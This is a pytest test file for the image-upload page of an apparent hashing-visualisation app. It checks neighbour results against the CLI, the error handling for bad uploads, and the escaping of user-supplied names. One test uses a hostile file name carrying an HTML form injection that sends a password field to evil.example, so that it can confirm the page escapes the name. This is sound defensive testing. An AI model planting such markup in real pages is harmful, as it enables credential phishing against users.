"""The "Your own image" page through AppTest: an uploaded digit shows what the network sees, its code and top k
for every bit length × quantizer — the very neighbours `hashviz query --json` prints for the same file — and its
place on the codes map; bad files show the error and the page keeps working; an embeddings-file run says it has
no backbone or head; a fresh home points to Data & model. (The canvas itself is driven in a real browser:
tests/app/test_browser_draw.py.)"""

from __future__ import annotations

import io
import json
import re

import numpy as np
import pytest
from PIL import Image

from tests.app.conftest import open_app, problems
from tests.app.test_user_text import hostile_home  # noqa: F401 (fixture)

# AppTests of a whole feature: in `make test`, not in the quick `make test-fast`
pytestmark = pytest.mark.slow

PAGE = "pages/6_draw.py"


def canvas_png(digit: np.ndarray) -> bytes:
    big = np.asarray(Image.fromarray(255 - digit).resize((280, 280), Image.Resampling.NEAREST))
    buf = io.BytesIO()
    Image.fromarray(np.dstack([big, big, big, np.full_like(big, 255)]), "RGBA").save(buf, format="PNG")
    return buf.getvalue()


def a_query_digit(label: int = 4) -> np.ndarray:
    from hashviz.data import get_dataset

    ds = get_dataset("mnist5k", seed=0)
    q = ds.indices("query")
    return ds.load_images([q[ds.labels[q] == label][0]])[0]


def upload(at, name: str, data: bytes):
    at.radio(key="hv_draw_source").set_value("upload").run()
    return at.file_uploader(key="hv_draw_upload").set_value((name, data, "image/png")).run()


def result_grids(at) -> list[list[int]]:
    """Dataset indices of each result grid, in page order (from the image tooltips)."""
    bodies = [h.proto.body for h in at.get("html") if 'title="index ' in h.proto.body]
    return [[int(m) for m in re.findall(r'title="index (\d+) ·', b)] for b in bodies]


def result_headers(at) -> list[tuple[int, str]]:
    """(bits, quantizer label) of each result column, in page order."""
    out, bits = [], None
    for m in at.markdown:
        h = re.fullmatch(r"#### (\d+) bits", m.value)
        if h:
            bits = int(h.group(1))
        c = re.match(r"\*\*(.+?)\*\* · predicted", m.value)
        if c:
            out.append((bits, c.group(1)))
    return out


def test_fresh_home_points_to_data_and_model(fresh):
    at = open_app(PAGE)
    assert problems(at) == []
    assert any("Nothing is prepared yet" in i.value for i in at.info)


def test_draw_mode_waits_for_a_drawing(filled):
    at = open_app(PAGE)
    assert problems(at) == []
    assert at.radio(key="hv_draw_source").value == "draw"  # MNIST run: the canvas comes first
    assert any("Draw one digit" in c.value for c in at.caption)
    assert result_grids(at) == []


def test_uploaded_digit_shows_codes_neighbours_and_map_like_the_cli(filled, tmp_path, capsys):
    from hashviz.cli import main
    from hashviz.pipeline import list_prepared

    data = canvas_png(a_query_digit(4))
    at = upload(open_app(PAGE), "four.png", data)
    assert problems(at) == []
    seen = [h.proto.body for h in at.get("html") if "what the network sees (28×28)" in h.proto.body]
    assert len(seen) == 1 and seen[0].count("<img") == 1
    headers, grids = result_headers(at), result_grids(at)
    assert len(headers) == len(grids) >= 2 * 3  # 16 and 32 bits × sign, ITQ, HQ (+ live fits of other tests)
    assert all(len(g) == 10 for g in grids)
    assert {b for b, _ in headers} == {16, 32}
    # the CLI on the same file finds the same neighbours
    path = tmp_path / "four.png"
    path.write_bytes(data)
    key = list_prepared(filled)[0].key
    assert main(["query", str(path), "--run", key, "--home", str(filled), "--json"]) == 0
    cli = {(r["n_bits"], r["label"]): [n["index"] for n in r["neighbours"]]
           for r in json.loads(capsys.readouterr().out)["results"]}
    page = dict(zip(headers, grids))
    assert set(cli) <= set(page)
    for k, indices in cli.items():
        assert page[k] == indices, k
    codes = [c.value for c in at.caption if c.value.startswith("code: `")]
    assert len(codes) == len(grids) and len(codes[0].replace("code: ", "").strip("`").replace(" ", "")) == 16
    # the map: the codes map of the chosen quantizer with the image placed by nearest neighbours
    assert at.selectbox(key="hv_draw_map").value == "hq"
    assert len(at.get("plotly_chart")) == 1
    assert any(c.value.startswith("Placed by nearest neighbours in code space") for c in at.caption)
    at.selectbox(key="hv_draw_map").set_value("sign").run()
    assert problems(at) == [] and len(at.get("plotly_chart")) == 1


def test_bad_uploads_show_the_error_and_the_page_keeps_working(filled):
    at = upload(open_app(PAGE), "notes.png", b"this is text, not a picture")
    errors = [e.value for e in at.error]
    assert any("notes.png is not an image" in e for e in errors), errors
    assert not at.exception and result_grids(at) == []
    buf = io.BytesIO()
    Image.fromarray(np.zeros((1, 1), np.uint8)).save(buf, format="PNG")
    at.file_uploader(key="hv_draw_upload").set_value(("dot.png", buf.getvalue(), "image/png")).run()
    assert any("1×1 pixels" in e.value for e in at.error)
    at.file_uploader(key="hv_draw_upload").set_value(("four.png", canvas_png(a_query_digit(4)),
                                                      "image/png")).run()
    assert problems(at) == [] and len(result_grids(at)) >= 6


def test_embeddings_file_run_says_it_has_no_model(fresh, tmp_path):
    from hashviz.embeddings import Embeddings
    from hashviz.session.runs import Workspace
    from tests.helpers import clustered_embeddings

    z, labels = clustered_embeddings()
    path = tmp_path / "mine.npz"
    Embeddings.from_arrays({"z": z, "labels": labels}).save(path)
    Workspace(fresh).prepare("embeddings", dataset_options={"path": str(path)})
    at = open_app(PAGE)
    assert not at.exception
    assert any("made from an embeddings file" in e.value and "no backbone" in e.value for e in at.error)
    assert any("prepare a run from images" in i.value for i in at.info)


# ---- user text: hostile class names and file names stay text (as tests/app/test_user_text.py checks elsewhere) ----
@pytest.mark.slow
@pytest.mark.parametrize("source", ["imagefolder", "listfile", "cifar10", "npz"])
def test_hostile_class_names_and_file_names_are_text(hostile_home, monkeypatch, app_env, source):  # noqa: F811
    from tests.app.test_user_text import NAMES, _shown_somewhere, markup_from_user_data

    home, keys = hostile_home
    monkeypatch.setenv("HASHVIZ_HOME", str(home))
    at = open_app(query={"run": keys[source]})
    at.switch_page(PAGE).run()
    assert at.session_state["hv_run"] == keys[source]
    if source == "npz":  # an embeddings file: no model, said as text
        assert any("made from an embeddings file" in e.value for e in at.error) and not at.exception
        assert markup_from_user_data(at) == []
        return
    assert "hv_draw_source" not in [r.key for r in at.radio]  # not a digit dataset: an upload, no canvas
    rgb = np.zeros((40, 40, 3), np.uint8)
    rgb[:, :, 0] = 200
    buf = io.BytesIO()
    Image.fromarray(rgb).save(buf, format="PNG")
    name = '<form action="https:evil.example"><input name="pw"><button>Go [x](https:evil.example).png'
    at.file_uploader(key="hv_draw_upload").set_value((name, buf.getvalue(), "image/png")).run()
    assert problems(at) == [] and markup_from_user_data(at) == []
    assert _shown_somewhere(at, NAMES[source])  # the classes of the neighbours, escaped
    at.file_uploader(key="hv_draw_upload").set_value((name, b"not an image", "image/png")).run()
    assert markup_from_user_data(at) == []
    assert any("is not an image" in e.value and "\\<form" in e.value for e in at.error)
